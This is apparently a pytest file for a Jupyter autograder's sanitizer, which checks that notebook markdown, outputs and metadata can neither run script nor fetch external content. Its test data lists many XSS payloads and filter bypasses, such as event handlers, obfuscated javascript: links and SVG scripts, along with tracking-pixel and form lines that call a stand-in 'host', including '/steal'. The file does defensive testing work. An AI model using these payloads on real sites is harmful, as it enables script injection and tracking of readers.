"""autograder.isolate.sanitize: what a submission displays or writes in markdown cannot run in a browser."""

from __future__ import annotations

import base64
import html
import re
from pathlib import Path

import nbformat
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from autograder.isolate import sanitize
from tests.autograder.support import active_or_external

ROOT = Path(__file__).resolve().parents[3]
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n0000").decode()


def test_html_loses_scripts_iframes_handlers_and_javascript_links_but_keeps_figures():
    dirty = (
        '<p onclick="alert(1)">hi</p><script>alert(2)</script><iframe srcdoc="<script>alert(3)</script>">'
        '</iframe><img src=x onerror=alert(4)><a href=" jav&#x61;script:alert(5)">a</a>'
        '<a href="data:text/html,<script>alert(6)</script>">b</a><svg onload=alert(7)></svg>'
        "<style>body{background:url(https://evil.example/)}</style><object data=x></object>"
    )
    clean = sanitize.clean_html(dirty)
    assert clean == "<p>hi</p>[image not shown]ab"
    figure = f'<img src="data:image/png;base64,{PNG}" alt="a plot of x">'  # what the course's figures are
    assert sanitize.clean_html(figure) == figure


# issue 19, attack 5 and its relatives: every way an HTML output or a markdown cell could fetch
FETCHES = [
    '<img src="http://host/p.png?reader=ada">',
    '<img src="//host/p.png?reader=ada">',
    '<img src="p.png?reader=ada">',
    '<img srcset="http://host/p.png?reader=ada 1x" src="data:image/png;base64,' + PNG + '">',
    '<img src="data:image/png;base64,not base64!">',
    '<div style="background:url(http://host/p.png?reader=ada)">d</div>',
    "<style>@import 'http://host/c.css'; body{background:url(http://host/p.png?reader=ada)}</style>",
    '<link rel="stylesheet" href="http://host/c.css?reader=ada">',
    '<iframe src="http://host/?reader=ada"></iframe>',
    '<object data="http://host/p.swf?reader=ada"></object><embed src="http://host/e?reader=ada">',
    '<svg><image href="http://host/p.png?reader=ada"/><use xlink:href="http://host/s.svg#a"/></svg>',
    '<meta http-equiv="refresh" content="0; url=http://host/?reader=ada">',
    '<video poster="http://host/p.png?reader=ada"><source src="http://host/v.mp4"></video>',
    '<audio src="http://host/a.mp3?reader=ada"></audio><input type="image" src="http://host/i.png">',
    '<table background="http://host/p.png?reader=ada"><tr><td>t</td></tr></table>',
    '<form action="http://host/steal"><button formaction="http://host/x">b</button></form>',
    '<base href="http://host/"><a href="rel.html">r</a>',
    '<map><area href="http://host/?reader=ada" shape="rect" coords="0,0,9,9"></map>',
    '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD4=">d</a>',
    '<a href="//host/?reader=ada">protocol-relative</a><a href=" java\tscript:alert(1)">tab</a>',
]


@pytest.mark.parametrize("dirty", FETCHES)
def test_no_html_output_can_fetch_or_run_anything(dirty):
    clean = sanitize.clean_html(dirty)
    assert active_or_external(clean) == [], clean
    assert "reader=ada" not in clean.split("[image not shown")[0]  # only ever as visible text
    assert sanitize.clean_html(clean) == clean  # idempotent: the driver and the pages clean twice


def test_links_become_text_with_their_http_or_mailto_url_shown():
    clean = sanitize.clean_html(
        '<a href="https://numpy.org/doc">the docs</a>, <a href="mailto:ta@uni.example">mail</a>, '
        '<a href="https://a.example/x">https://a.example/x</a>, <a href="#top">top</a>'
    )
    assert clean == (
        'the docs (https://numpy.org/doc), mail (mailto:ta@uni.example), https://a.example/x, <a href="#top">top</a>'
    )


MARKDOWN_ATTACKS = [
    "[x](javascript\\:alert(1))",  # attack 4: the escaped colon mistune unescapes
    "[x][r]\n\n[r]:\n  javascript:alert(2)",  # attack 4: the target on the next line
    "[x](JaVaScRiPt:alert(3)) [y](<javascript:alert(4)>) [z](java&#115;cript:alert(5))",
    "[a](vbscript:msgbox(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](//host/?reader=ada)",
    "<javascript:alert(6)> <https://host/?reader=ada>",
    "![](http://host/p.png?reader=ada)",  # attack 5
    '![tracker][t]\n\n[t]: http://host/p.png?reader=ada "title"',
    "![](//host/p.png?reader=ada) ![](p.png?reader=ada)",
    '<img src="http://host/p.png?reader=ada"> <a href="javascript:alert(7)">a</a>',
    "<div style=\"background:url('http://host/p.png?reader=ada')\">styled</div>",
]


@pytest.mark.parametrize("payload", MARKDOWN_ATTACKS)
def test_markdown_renders_to_html_that_neither_runs_nor_fetches(payload):
    page = sanitize.render_markdown(payload)  # what a feedback page shows
    assert active_or_external(page) == [], page
    assert "<a " not in page and "<img" not in page
    source = sanitize.clean_markdown(payload)  # what the autograded notebook keeps for formgrader
    assert source.startswith(sanitize.SANITIZED_DIV) and "\n" not in source
    rendered = markdown2html_mistune(source)  # formgrader renders it again with nbconvert's mistune
    assert active_or_external(rendered) == [], rendered
    assert rendered.strip() == source  # one HTML block: passed through, no markdown read inside
    assert sanitize.clean_markdown(source) == source


def test_markdown_links_show_their_url_and_math_stays_as_text():
    md = "See [the docs](https://numpy.org/doc) or <mailto:ta@uni.example>; $\\sigma(x) = 1/(1+e^{-x})$, $[0, 1]$"
    page = sanitize.render_markdown(md)
    assert "the docs (https://numpy.org/doc)" in page and "ta@uni.example" in page
    assert "$\\sigma(x) = 1/(1+e^{-x})$" in page and "$[0, 1]$" in page
    assert active_or_external(page) == []


def test_markdown_with_no_bracket_or_angle_bracket_is_kept_byte_for_byte():
    for honest in ("a > b, $x^2$, **bold** & _it_ https://numpy.org", "# Why\n\nBecause $e^{-x} \\to 0$.\n"):
        assert sanitize.clean_markdown(honest) == honest
    # markdown whose raw HTML would not survive is shown as text, so the instructor sees the attempt
    shown = sanitize.clean_markdown("<img src=x onerror=alert(1)> hi <script>alert(1)</script>")
    assert "&lt;img src=x onerror=alert(1)&gt; hi &lt;script&gt;alert(1)&lt;/script&gt;" in shown
    assert active_or_external(markdown2html_mistune(shown)) == []


def test_markdown_images_only_from_data_uris_or_the_cells_attachments():
    md = f"![plot](attachment:a.png) ![inline](data:image/png;base64,{PNG}) ![away](http://host/p.png)"
    page = sanitize.render_markdown(md, {"a.png": {"image/png": PNG}})
    assert page.count(f'src="data:image/png;base64,{PNG}"') == 2
    assert "[image not shown: away, http://host/p.png]" in page and active_or_external(page) == []
    missing = sanitize.clean_markdown("![gone](attachment:nope.png)")  # nbconvert alone raises here
    assert missing == sanitize.SANITIZED_DIV + "<p>[image not shown: gone]</p></div>"
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("![plot](attachment:a.png) ![svg](attachment:b.svg)")]
    nb.cells[0].attachments = {
        "a.png": {"image/png": PNG},
        "b.svg": {"image/svg+xml": "<svg onload=alert(1)/>"},
    }
    source = sanitize.clean_notebook(nb).cells[0].source  # the svg attachment is dropped first
    assert (
        f'<img src="data:image/png;base64,{PNG}" alt="plot">' in source and "[image not shown: svg]" in source
    )


def test_output_bundles_keep_only_inert_types():
    assert sanitize.clean_bundle({"application/javascript": "alert(1)"}) == {
        "text/plain": "[output removed by the autograder: application/javascript could run in a browser]"
    }
    svg = sanitize.clean_bundle({"image/svg+xml": "<svg><script>alert(1)</script></svg>", "text/plain": "x"})
    assert svg["text/plain"] == "x" and "image/svg+xml" not in svg
    assert svg["text/html"].startswith('<img src="data:image/svg+xml;base64,')  # an image runs no script
    forged = sanitize.clean_bundle(
        {"image/png": 'x" onerror="alert(1)', "image/jpeg": PNG, "text/plain": "p"}
    )
    assert forged == {"image/jpeg": PNG, "text/plain": "p"}
    out = sanitize.clean_output(
        {
            "output_type": "display_data",
            "data": {"image/png": PNG, "application/vnd.jupyter.widget-view+json": {"model_id": "m"}},
            "metadata": {"image/png": {"width": 10, "height": '1" onload="alert(1)'}},
        }
    )
    assert out["data"] == {"image/png": PNG} and out["metadata"] == {"image/png": {"width": 10}}


def test_whole_notebook_markdown_raw_cells_attachments_and_metadata():
    nb = nbformat.v4.new_notebook()
    nb.metadata = {
        "kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
        "title": "</title><script>alert(1)</script>",
    }
    md = nbformat.v4.new_markdown_cell("<img src=x onerror=alert(1)>")
    md.attachments = {"a.png": {"image/png": PNG}, "b.svg": {"image/svg+xml": "<svg onload=alert(1)/>"}}
    nb.cells = [
        md,
        nbformat.v4.new_raw_cell("<script>alert(2)</script>"),
        nbformat.v4.new_code_cell(
            "x",
            outputs=[
                nbformat.v4.new_output("display_data", data={"text/html": "<script>alert(3)</script>ok"})
            ],
        ),
    ]
    clean = sanitize.clean_notebook(nb)
    assert clean.metadata == {
        "kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)", "language": "python"}
    }
    assert clean.cells[0].source == sanitize.SANITIZED_DIV + "<p>&lt;img src=x onerror=alert(1)&gt;</p></div>"
    assert set(clean.cells[0].attachments) == {"a.png"}
    assert clean.cells[1].source == "&lt;script>alert(2)&lt;/script>"  # a raw cell: text only
    assert clean.cells[2].outputs[0]["data"] == {"text/html": "ok"}
    nbformat.validate(clean)


@pytest.mark.parametrize(
    "dirty", FETCHES + ['<a href="#x"\nonclick="y">', '<IMG SRC="http://x">', "<a href=#x>"]
)
def test_the_page_check_flags_every_tag_that_is_not_plainly_inert(dirty):
    assert not sanitize.page_body_is_inert(dirty)
    assert sanitize.page_body_is_inert(sanitize.clean_page_body(dirty))  # the fallback is inert


def test_the_page_check_passes_the_feedback_templates_markup():
    body = (
        '<div tabindex="-1" id="notebook" class="border-box-sizing"><a name="top"></a><a href="#top">top</a>'
        f'<img src="data:image/png;base64,{PNG}" alt="p" width="10"><br><!-- cell --><main>x</main></div></html>'
    )
    assert sanitize.page_body_is_inert(body)


def _text_of(page: str) -> str:
    text = html.unescape(re.sub(r"<[^>]+>", "", page.replace("&#10;", "\n")))
    return re.sub(r"\s+", " ", text.replace("¶", "")).strip()


def test_the_course_markdown_keeps_every_word_and_formula_in_the_autograded_notebook():
    """Every markdown cell of release/ is kept, or replaced by HTML that shows the same text and math."""
    replaced = 0
    for path in sorted((ROOT / "release").glob("*/*.ipynb")):
        for cell in nbformat.read(path, as_version=4).cells:
            if cell.cell_type != "markdown":
                continue
            clean = sanitize.clean_markdown(cell.source)
            if clean != cell.source:
                replaced += 1
                assert markdown2html_mistune(clean).strip() == clean, (path.name, cell.source[:80])
                assert _text_of(clean) == _text_of(markdown2html_mistune(cell.source)), (
                    path.name,
                    cell.source[:80],
                )
    assert replaced > 0  # cells with [ or < (math such as $[0, 1]$) took the replaced path
